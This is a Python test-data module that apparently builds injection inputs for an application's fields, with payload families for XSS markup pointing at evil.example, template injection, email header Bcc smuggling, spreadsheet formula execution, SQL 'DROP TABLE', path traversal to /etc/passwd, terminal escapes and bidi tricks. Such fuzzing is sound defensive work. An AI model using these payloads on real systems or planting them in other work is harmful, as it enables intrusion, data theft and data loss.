"""Texts made to become something else than text: markup, templates, headers, formulas, log lines, directions."""

import html
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from itertools import product
from random import Random
from typing import Final
from urllib.parse import quote

SUM: Final = "9801547"
"""What the templates below come to when somebody evaluates them: 1337 times 7331."""

PAYLOADS: Final[Mapping[str, tuple[str, ...]]] = {
    "markup": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "</title><svg/onload=alert(1)>",
        "</style><script>alert(1)</script>",
        "' autofocus onfocus=alert(1) x='",
        "<iframe src=//evil.example></iframe>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example><input name=password></form>",
        "<a href=javascript:alert(1)>click</a>",
        "<link rel=stylesheet href=//evil.example>",
        "<base href=//evil.example>",
        "<style>*{background:url(//evil.example)}</style>",
        "</bdi></p></td></tr></table><plaintext>",
        "<!--",
        "]]><x>",
        "<?php echo 1 ?>",
        "&lt;script&gt;&#60;script&#62;&#x3c;script&#x3e;",
        "<\x00script>",
        "\uff1cscript\uff1e",
    ),
    "templates": (
        "{{ 1337*7331 }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{# nothing #}",
        "{{ letter.order }}{% include 'style.css' %}",
        "%(amount)s %s %n %",
        "{0.__class__} {amount}",
        "${1337*7331} #{1337*7331} <%= 1337*7331 %>",
    ),
    "headers": (
        "\r\nBcc: victim@evil.example",
        "\nTo: victim@evil.example",
        "\r\n\r\n<html><body>hello",
        "x@evil.example, y@evil.example",
        "=?utf-8?q?=0D=0ABcc:_victim=40evil.example?=",
        "\u2028Bcc: victim@evil.example",
        "\x85Cc: victim@evil.example",
        "x>\r\nBcc: <victim@evil.example",
        ";bcc=victim@evil.example",
    ),
    "formulas": ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", '"=1+1"', ";=1+1", "=HYPERLINK(0)"),
    "logs": (
        "\n2026-11-22 06:00:00 ERROR all is lost",
        "\x1b[31mred\x1b[0m",
        "\x1b]0;owned\x07",
        "\x9b2J",
        "\roverwritten",
        "\x08\x08\x08gone",
        "%0d%0aforged",
    ),
    "directions": (
        "\u202egnirts",
        "\u2067right\u2069 \u2066left",
        "\u200f\u200e\u061c",
        "\u200b\u2060\ufeff",
        "".join(chr(0xE0000 + ord(letter)) for letter in "hidden"),
        "\ufff9a\ufffab\ufffb",
    ),
    "nothing": ("\0", "a\0b", "\x01\x1f\x7f", "   ", ""),
    "halves": ("\ud800", "a\udfffb", "\udc80"),
    "lengths": ("x" * 201, "y" * 5_000, "ﷺ" * 100, "a" + "\u0301" * 200, "👩\u200d👩\u200d👧" * 30),
    "databases": ("'; DROP TABLE remedies;--", '" OR ""="', "\\'; --"),
    "paths": ("../../../etc/passwd", "..\\..\\x", "/dev/null", "a.eml/../b"),
}

ENCODINGS: Final[Mapping[str, Callable[[str], str]]] = {
    "plain": str,
    "between words": lambda text: f"A film {text} of note",
    "at the end": lambda text: f"Casablanca {text}",
    "twice": lambda text: text + text,
    "as entities": lambda text: html.escape(text, quote=True),
    "in numbers": lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    "for addresses": lambda text: quote(text.encode("utf-8", "replace"), safe=""),
    "in capitals": str.upper,
    "where a title is cut": lambda text: "x" * (119 - len(text) // 2) + text,
    "right to left": lambda text: f"עברית {text} العربية",
    "in quotes": lambda text: f'"{text}"',
}


@dataclass(frozen=True)
class Case:
    """A text, and the place that it is put into."""

    place: str
    text: str


def cases(places: Sequence[str], count: int) -> list[Case]:
    """So many of all, chosen by a fixed seed; every text stands plain in every place before others are encoded."""
    texts = [text for family in PAYLOADS.values() for text in family]
    plain = [Case(place, text) for place, text in product(places, texts)]
    encoded = [
        Case(place, encode(text))
        for place, (name, encode), text in product(places, ENCODINGS.items(), texts)
        if name != "plain"
    ]
    chance = Random(2012)  # noqa: S311 - no secret
    chance.shuffle(plain)
    chance.shuffle(encoded)
    first = {case.text: case for case in plain} | {case.place: case for case in plain}
    return list(dict.fromkeys((*first.values(), *plain, *encoded)))[:count]
